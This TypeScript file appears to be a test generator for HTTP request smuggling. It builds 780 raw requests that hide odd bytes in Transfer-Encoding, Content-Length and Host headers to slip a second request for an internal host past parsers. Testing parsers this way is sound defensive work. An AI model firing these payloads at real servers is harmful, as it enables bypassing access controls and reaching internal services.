// Requests that smuggle: one byte at one place of one header, so that a reader who skips the byte, stops at it or takes it for white space sees another header,
// another end of the body, or another request than a reader who does not.

export interface SmugglingCase {
  readonly name: string;
  /** What the child sends. Its own request is for `/attack`; what it smuggles is for `/MARKER`, at another host, so that no honest reading serves it. */
  readonly bytes: string;
}

/** A byte and who makes something of it. */
const BYTES: readonly (readonly [name: string, byte: string])[] = [
  ["NUL", "\0"], // ends a string in C
  ["HTAB", "\t"], // white space where the RFC allows some, and to some where not
  ["LF", "\n"], // a line end to lenient readers
  ["VT", "\x0b"], // isspace() in C
  ["FF", "\x0c"], // isspace() in C
  ["CR", "\r"], // a line end, or nothing at all, to lenient readers
  ["FS", "\x1c"], // a line end to Python's splitlines(), white space to its strip()
  ["US", "\x1f"], // white space to Python's strip()
  ["SP", " "], // as the tab
  ["DEL", "\x7f"], // a control character that tests for "below space" forget
  ["NEL", "\x85"], // a line end in Latin-1 and in Unicode
  ["NBSP", "\xa0"], // white space to JavaScript's trim()
  ["0xff", "\xff"], // no UTF-8: dropped or replaced by decoders
];

const PLACES: readonly (readonly [name: string, put: (name: string, value: string, byte: string) => string])[] = [
  ["before the name", (name, value, byte) => `${byte}${name}: ${value}\r\n`],
  ["inside the name", (name, value, byte) => `${name.slice(0, 4)}${byte}${name.slice(4)}: ${value}\r\n`],
  ["before the colon", (name, value, byte) => `${name}${byte}: ${value}\r\n`],
  ["after the colon", (name, value, byte) => `${name}:${byte}${value}\r\n`],
  ["before the value", (name, value, byte) => `${name}: ${byte}${value}\r\n`],
  ["inside the value", (name, value, byte) => `${name}: ${value.slice(0, 1)}${byte}${value.slice(1)}\r\n`],
  ["after the value", (name, value, byte) => `${name}: ${value}${byte}\r\n`],
  ["inside the line end", (name, value, byte) => `${name}: ${value}\r${byte}\n`],
  ["as a fold", (name, value, byte) => `${name}:\r\n${byte}${value}\r\n`],
  ["before the empty line", (name, value, byte) => `${name}: ${value}\r\n${byte}`],
];

/** The request that must never arrive as one. */
export const SMUGGLED = "GET /MARKER HTTP/1.1\r\nHost: internal.example.test\r\n\r\n";

const IN_CHUNKS = `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`;
const AFTER_CHUNKS = `0\r\n\r\n${SMUGGLED}`;

/** The header that the byte is put in: by itself, or beside one that says otherwise. `host` is the honest one. */
const DISGUISES: readonly (readonly [name: string, compose: (host: string, disguise: (name: string, value: string) => string) => string])[] = [
  ["the only coding", (host, disguise) => `Host: ${host}\r\n${disguise("Transfer-Encoding", "chunked")}\r\n${IN_CHUNKS}`],
  ["a coding beside a length", (host, disguise) => `Host: ${host}\r\nContent-Length: ${AFTER_CHUNKS.length}\r\n${disguise("Transfer-Encoding", "chunked")}\r\n${AFTER_CHUNKS}`],
  ["the only length", (host, disguise) => `Host: ${host}\r\n${disguise("Content-Length", String(SMUGGLED.length))}\r\n${SMUGGLED}`],
  ["a length beside a coding", (host, disguise) => `Host: ${host}\r\nTransfer-Encoding: chunked\r\n${disguise("Content-Length", "0")}\r\n${IN_CHUNKS}`],
  ["the only Host", (host, disguise) => `${disguise("Host", host)}Content-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`],
  ["a Host beside the honest one", (host, disguise) => `Host: ${host}\r\n${disguise("Host", "internal.example.test")}Content-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`],
];

/** 13 bytes at 10 places of 6 headers. @param headers further lines of the attack, each with its line end. */
export function smugglingCases(host: string, headers = ""): SmugglingCase[] {
  return DISGUISES.flatMap(([disguiseName, compose]) =>
    PLACES.flatMap(([placeName, put]) =>
      BYTES.map(([byteName, byte]) => ({
        name: `${byteName} ${placeName} of ${disguiseName}`,
        bytes: `POST /attack HTTP/1.1\r\n${headers}${compose(host, (name, value) => put(name, value, byte))}`,
      })),
    ),
  );
}
